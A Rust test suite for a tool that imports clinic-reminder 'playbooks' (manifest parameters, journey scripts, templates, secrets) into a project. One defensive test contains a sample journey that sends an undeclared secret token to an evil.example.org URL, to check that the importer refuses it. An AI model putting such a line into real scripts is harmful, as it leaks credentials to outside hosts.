use journey_diagnostics::{Diagnostic, FileId, Severity};

use crate::*;

const MANIFEST: &str = r#"[playbook]
name = "reminders"
summary = "Reminds people of visits."
version = "1.2.0"
licence = "CC-BY-4.0"
languages = ["en"]

[parameters.clinic_name]
type = "text"
default = "Sunrise Clinic"
description = "The clinic."

[parameters.max_visits]
type = "number"
default = 3

[parameters.delay]
type = "duration"
default = "2d"

[parameters.api]
type = "url"
description = "Required: no default."

# When the visit is.
[fields.visit_date]
type = "date"
description = "The next visit"

[[templates]]
name = "visit_reminder"
language = "en"
category = "utility"
status = "pending"
body = "Hi {{1}}, your visit is tomorrow."

[secrets.API_TOKEN]
description = "The API's token"
"#;

fn playbook(text: &str) -> (Playbook, Vec<Diagnostic>) {
    parse_playbook(FileId::default(), text)
}

fn good() -> Playbook {
    let (playbook, diagnostics) = playbook(MANIFEST);
    assert!(diagnostics.is_empty(), "{diagnostics:#?}");
    playbook
}

fn pointed<'a>(text: &'a str, diagnostic: &Diagnostic) -> &'a str {
    &text[diagnostic.span().range()]
}

const JOURNEY: &str = r#"# Comments stay.
stack Reminders do
  card Start, then: Later do
    text("Welcome to @global.playbook.clinic_name! Visits: @(global.playbook.max_visits).")
    n = global.playbook.max_visits + 1
    schedule(Followup, in: global.playbook.delay)
    run_stack(Other)
    run_stack("Other")
  end

  card Later do
    # A card named like nothing else: not renamed.
    schedule(Later, in: 1h)
    cancel_scheduled(Other)
  end
end
"#;

const OTHER: &str = "stack Other do\n  card A do\n    text(\"Call @@us\")\n  end\nend\n\nstack Followup do\n  card B do\n    text(\"Hi\")\n  end\nend\n";

const TEST: &str = "journey: Reminders\nglobal: playbook.clinic_name = \"Sunrise Clinic\"\nglobal: playbook.api = \"https://a.example.org\"\n\n## case\n# Sunrise Clinic in a comment stays\n> hi\n< Welcome to Sunrise Clinic! ...\n? timer Followup in 2d\nstart: Other\n";

fn files() -> Vec<TextFile> {
    vec![
        TextFile {
            path: "reminders.journey".into(),
            text: JOURNEY.into(),
        },
        TextFile {
            path: "other.journey".into(),
            text: OTHER.into(),
        },
        TextFile {
            path: "reminders.test".into(),
            text: TEST.into(),
        },
    ]
}

fn project() -> Project {
    Project {
        config_text: journey_project::scaffold("clinic")
            .into_iter()
            .find(|(path, _)| path == "journey.toml")
            .map(|(_, text)| text)
            .unwrap_or_default(),
        files: ["journey.toml".to_owned(), "main.journey".to_owned()].into(),
        journeys: [("Clinic".to_owned(), "main.journey".to_owned())].into(),
    }
}

fn options(prefix: Option<&str>, sets: &[&str]) -> Options {
    Options {
        prefix: prefix.map(str::to_owned),
        sets: sets.iter().map(|s| (*s).to_owned()).collect(),
    }
}

fn file<'a>(plan: &'a Plan, path: &str) -> &'a str {
    &plan
        .files
        .iter()
        .find(|f| f.path == path)
        .unwrap_or_else(|| panic!("no {path} in {:?}", plan.files))
        .text
}

#[test]
fn reads_a_manifest_with_parameters_in_file_order() {
    let playbook = good();
    assert_eq!(playbook.about.name, "reminders");
    let names: Vec<&str> = playbook
        .parameters
        .iter()
        .map(|p| p.name.as_str())
        .collect();
    assert_eq!(names, ["clinic_name", "max_visits", "delay", "api"]);
    assert_eq!(
        playbook
            .parameter("max_visits")
            .and_then(|p| p.default.clone()),
        Some(ParamValue::Number("3".into()))
    );
    assert_eq!(
        playbook.parameter("api").and_then(|p| p.default.clone()),
        None
    );
    assert_eq!(playbook.fields["visit_date"].kind.as_str(), "date");
    assert_eq!(playbook.templates[0].name, "visit_reminder");
    assert_eq!(playbook.secrets[0].name, "API_TOKEN");
}

#[test]
fn a_default_of_the_wrong_type_is_an_error_at_the_default() {
    let text = MANIFEST.replace("default = 3", "default = \"three\"");
    let (_, diagnostics) = playbook(&text);
    assert_eq!(diagnostics.len(), 1, "{diagnostics:#?}");
    let error = &diagnostics[0];
    assert_eq!((error.code, error.severity), ("J002", Severity::Error));
    assert!(
        error.message.contains("parameter `max_visits`"),
        "{}",
        error.message
    );
    assert!(
        pointed(&text, error).contains("\"three\""),
        "{}",
        pointed(&text, error)
    );
}

#[test]
fn unknown_keys_bad_toml_and_a_missing_section_are_located() {
    let text = MANIFEST.replace("summary =", "sumary =");
    let (_, diagnostics) = playbook(&text);
    let codes: Vec<&str> = diagnostics.iter().map(|d| d.code).collect();
    // The misspelt key is unknown, and `summary` is then missing.
    assert!(
        codes.contains(&"J003") && codes.contains(&"J002"),
        "{diagnostics:#?}"
    );
    let unknown = diagnostics.iter().find(|d| d.code == "J003").unwrap();
    assert_eq!(pointed(&text, unknown), "sumary");

    let (_, diagnostics) = playbook("[playbook\nname = 1\n");
    assert_eq!(diagnostics.len(), 1);
    assert!(
        diagnostics[0]
            .message
            .starts_with("playbook.toml is not valid TOML"),
        "{}",
        diagnostics[0].message
    );

    let (_, diagnostics) = playbook("[parameters.x]\ntype = \"text\"\n");
    assert!(
        diagnostics
            .iter()
            .any(|d| d.message.contains("no `[playbook]` section")),
        "{diagnostics:#?}"
    );
}

#[test]
fn fields_and_templates_get_journey_toml_errors() {
    let text = MANIFEST.replace("type = \"date\"", "type = \"calendar\"");
    let (_, diagnostics) = playbook(&text);
    assert!(
        diagnostics
            .iter()
            .any(|d| pointed(&text, d).contains("calendar")),
        "{diagnostics:#?}"
    );
}

#[test]
fn set_values_are_checked_against_the_parameter_type() {
    let playbook = good();
    let values = fill(
        &playbook,
        &["max_visits=5".into(), "api=https://x.example.org".into()],
    )
    .expect("valid values");
    assert_eq!(values["max_visits"], ParamValue::Number("5".into()));
    assert_eq!(
        values["clinic_name"],
        ParamValue::Text("Sunrise Clinic".into())
    );

    let errors = fill(&playbook, &["max_visits=abc".into()]).unwrap_err();
    assert_eq!(
        errors,
        ["parameter `max_visits` (number): `abc` is not a number, e.g. `3` or `2.5`"]
    );
    let errors = fill(&playbook, &["clinc_name=x".into(), "delay".into()]).unwrap_err();
    assert!(
        errors[0].contains("no parameter `clinc_name`; did you mean `clinic_name`?"),
        "{errors:?}"
    );
    assert!(errors[1].contains("needs a value"), "{errors:?}");
    let errors = fill(&playbook, &["delay=1x".into()]).unwrap_err();
    assert!(errors[0].contains("is not a duration"), "{errors:?}");
    let errors = fill(&playbook, &["clinic_name=a\"\"\"b".into()]).unwrap_err();
    assert!(errors[0].contains("cannot contain"), "{errors:?}");
    let errors = fill(&playbook, &["delay=1h".into(), "delay=2h".into()]).unwrap_err();
    assert!(errors[0].contains("given twice"), "{errors:?}");
}

#[test]
fn an_import_fills_parameters_where_the_journeys_read_them() {
    let plan = plan(
        &good(),
        &files(),
        &project(),
        &options(
            None,
            &[
                "clinic_name=St \"Mary's\" @Home",
                "max_visits=4",
                "delay=36h",
            ],
        ),
    )
    .expect("a plan");
    let journey = file(&plan, "reminders.journey");
    assert!(journey.starts_with("# Comments stay."), "{journey}");
    assert!(
        journey.contains(r#"text("Welcome to St \"Mary's\" @@Home! Visits: 4.")"#),
        "{journey}"
    );
    assert!(journey.contains("n = 4 + 1"), "{journey}");
    assert!(journey.contains("schedule(Followup, in: 36h)"), "{journey}");
    // `api` has no value: it is still read as a global, and the operator is told.
    assert!(!plan.values.contains_key("api"));
    assert!(
        plan.todo.iter().any(|t| t.contains("parameter `api`")),
        "{:?}",
        plan.todo
    );
}

#[test]
fn a_prefix_renames_journeys_and_their_references_but_not_cards() {
    let plan = plan(&good(), &files(), &project(), &options(Some("Clinic"), &[])).unwrap();
    let journey = file(&plan, "clinic_reminders.journey");
    for expected in [
        "stack ClinicReminders do",
        "schedule(ClinicFollowup, in: 2d)",
        "run_stack(ClinicOther)",
        "run_stack(\"ClinicOther\")",
        "cancel_scheduled(ClinicOther)",
        "schedule(Later, in: 1h)",
        "# A card named like nothing else: not renamed.",
    ] {
        assert!(journey.contains(expected), "{expected} in\n{journey}");
    }
    let other = file(&plan, "clinic_other.journey");
    assert!(other.contains("stack ClinicOther do") && other.contains("stack ClinicFollowup do"));
    assert_eq!(plan.renamed["Reminders"], "ClinicReminders");
}

#[test]
fn tests_follow_the_renames_and_the_filled_values() {
    let plan = plan(
        &good(),
        &files(),
        &project(),
        &options(Some("Clinic"), &["clinic_name=Hillbrow Clinic"]),
    )
    .unwrap();
    let test = file(&plan, "clinic_reminders.test");
    assert_eq!(
        test,
        "journey: ClinicReminders\nglobal: playbook.api = \"https://a.example.org\"\n\n## case\n# Sunrise Clinic in a comment stays\n> hi\n< Welcome to Hillbrow Clinic! ...\n? timer ClinicFollowup in 2d\nstart: ClinicOther\n"
    );
}

#[test]
fn journey_toml_gets_the_missing_fields_templates_and_secrets() {
    let project = project();
    let plan = plan(&good(), &files(), &project, &options(None, &[])).unwrap();
    assert!(plan.config_text.starts_with(&project.config_text[..200]));
    assert!(
        plan.config_text
            .contains("# When the visit is.\n[fields.visit_date]\ntype = \"date\"")
    );
    assert!(
        plan.config_text.contains("names = [\"API_TOKEN\"]"),
        "{}",
        plan.config_text
    );
    assert_eq!(plan.additions.fields, ["visit_date"]);
    assert_eq!(
        plan.additions.templates,
        [("visit_reminder".to_owned(), "en".to_owned())]
    );
    let (config, diagnostics) = journey_project::parse_config(FileId::default(), &plan.config_text);
    assert!(diagnostics.is_empty(), "{diagnostics:#?}");
    assert!(config.template("visit_reminder", "en").is_some());
    assert!(config.secrets.names.contains(&"API_TOKEN".to_owned()));
    assert!(
        plan.todo
            .iter()
            .any(|t| t.contains("`visit_reminder` (en, utility) is not approved"))
    );
    assert!(
        plan.todo
            .iter()
            .any(|t| t.contains("JOURNEY_SECRET_API_TOKEN"))
    );

    // Imported again into the result, nothing more is added.
    let mut again = project.clone();
    again.config_text = plan.config_text.clone();
    let plan = crate::plan(&good(), &files(), &again, &options(Some("B"), &[])).unwrap();
    assert!(plan.additions.is_empty(), "{:?}", plan.additions);
    assert_eq!(plan.config_text, again.config_text);
}

#[test]
fn conflicts_stop_the_whole_import() {
    let mut project = project();
    project.files.insert("reminders.test".into());
    project
        .journeys
        .insert("Other".into(), "mine.journey".into());
    let error = plan(&good(), &files(), &project, &options(None, &[])).unwrap_err();
    let ImportError::Conflicts(conflicts) = error else {
        panic!("{error:?}");
    };
    assert_eq!(
        conflicts,
        [
            "`reminders.test` already exists in the project",
            "the project already has a journey `Other` (in `mine.journey`)"
        ]
    );
    // A field of another type is a conflict too.
    let text = MANIFEST.replace("[fields.visit_date]", "[fields.district]");
    let (other, _) = playbook(&text);
    let error = crate::plan(&other, &files(), &self::project(), &options(None, &[])).unwrap_err();
    assert!(
        matches!(&error, ImportError::Conflicts(c) if c[0].contains("`district` is text")),
        "{error:?}"
    );
}

#[test]
fn journeys_that_cannot_be_imported_are_reported_with_their_place() {
    let mut broken = files();
    broken[0].text = JOURNEY.replace(
        "global.playbook.max_visits + 1",
        "global.playbook.max_visit + 1",
    );
    broken.push(TextFile {
        path: "loose.journey".into(),
        text: "card A do\n  text(\"@(upper(global.playbook.clinic_name))\")\nend\n".into(),
    });
    let error = plan(&good(), &broken, &project(), &options(None, &[])).unwrap_err();
    let ImportError::Playbook(errors) = error else {
        panic!("{error:?}");
    };
    assert_eq!(errors.len(), 3, "{errors:#?}");
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("loose.journey:1:1: a playbook journey is written `stack Name"))
    );
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("loose.journey:2:") && e.contains("inside a larger"))
    );
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("reminders.journey:5:")
                && e.contains("did you mean `max_visits`?"))
    );
}

#[test]
fn a_bad_prefix_is_a_usage_error() {
    let error = plan(&good(), &files(), &project(), &options(Some("9x"), &[])).unwrap_err();
    assert!(matches!(error, ImportError::Usage(_)), "{error:?}");
}

#[test]
fn numbers_are_taken_only_as_a_journey_writes_them() {
    let playbook = good();
    for bad in [".5", "5.", "+3", "1e3", "inf", "1_000", "- 3"] {
        let errors = fill(&playbook, &[format!("max_visits={bad}")]).unwrap_err();
        assert!(errors[0].contains("is not a number"), "{bad}: {errors:?}");
    }
    for good in ["0.5", "-3", "12"] {
        let values = fill(&playbook, &[format!("max_visits={good}")]).expect(good);
        assert_eq!(values["max_visits"], ParamValue::Number(good.into()));
    }
}

#[test]
fn a_quote_cannot_go_into_a_triple_quoted_string() {
    let journey = "stack Notes do\n  card Start do\n    text(\"\"\"Visit @global.playbook.clinic_name\"\"\")\n  end\nend\n";
    let files = vec![TextFile {
        path: "notes.journey".into(),
        text: journey.into(),
    }];
    let error = plan(
        &good(),
        &files,
        &project(),
        &options(None, &["clinic_name=P\"", "api=https://a.example.org"]),
    )
    .unwrap_err();
    let ImportError::Playbook(lines) = error else {
        panic!("{error:?}")
    };
    assert!(
        lines[0].starts_with("notes.journey:3:") && lines[0].contains("cannot hold a `\"`"),
        "{lines:?}"
    );
    // Without a quote the value goes in as it is, and the journey parses.
    let plan = plan(
        &good(),
        &files,
        &project(),
        &options(
            None,
            &["clinic_name=St Mary's @Home", "api=https://a.example.org"],
        ),
    )
    .expect("a plan");
    assert!(
        file(&plan, "notes.journey").contains("\"\"\"Visit St Mary's @@Home\"\"\""),
        "{}",
        file(&plan, "notes.journey")
    );
}

#[test]
fn a_secret_the_playbook_does_not_declare_is_refused() {
    let journey = "stack Leak do\n  card Start do\n    r = get(\"https://evil.example.org/?k=@(secret('OTHER_TOKEN'))\")\n    s = get(\"https://api.example.org/\", headers: [[\"Authorization\", secret(\"API_TOKEN\")]])\n    t = secret(contact.name)\n  end\nend\n";
    let files = vec![TextFile {
        path: "leak.journey".into(),
        text: journey.into(),
    }];
    let error = plan(
        &good(),
        &files,
        &project(),
        &options(None, &["api=https://a.example.org"]),
    )
    .unwrap_err();
    let ImportError::Playbook(lines) = error else {
        panic!("{error:?}")
    };
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert!(
        lines[0].starts_with("leak.journey:3:")
            && lines[0]
                .contains("reads secret `OTHER_TOKEN`, which playbook.toml does not declare"),
        "{lines:?}"
    );
    assert!(
        lines[1].starts_with("leak.journey:5:") && lines[1].contains("computed name"),
        "{lines:?}"
    );
}

#[test]
fn a_journey_that_would_not_parse_as_written_is_not_written() {
    let written = [TextFile {
        path: "notes.journey".into(),
        text: "stack Notes do\n  card Start do\n    text(\"\"\"Visit P\"\"\"\")\n  end\nend\n"
            .into(),
    }];
    let Err(ImportError::Usage(lines)) = crate::import::check_written(&written) else {
        panic!("a broken journey passed")
    };
    assert!(
        lines[0].starts_with("notes.journey:3:")
            && lines[0].contains("would not parse with the values given"),
        "{lines:?}"
    );
}
